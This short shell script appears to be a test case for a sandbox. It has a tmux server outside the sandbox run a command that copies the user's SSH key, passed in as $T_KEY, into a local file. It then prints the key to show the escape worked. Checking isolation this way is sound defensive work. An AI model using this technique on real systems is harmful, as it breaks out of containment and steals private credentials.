#!/bin/sh
# Has the pool's tmux server run a command, which is outside of every wall. Success: the user's SSH key is printed.
if [ -n "${TMUX:-}" ]; then tmux run-shell "cat '$T_KEY' >'$PWD/.wall/stolen'"; fi
tmux -S "$T_STATE/tmux.sock" run-shell "cat '$T_KEY' >'$PWD/.wall/stolen'" || exit 1
cat .wall/stolen
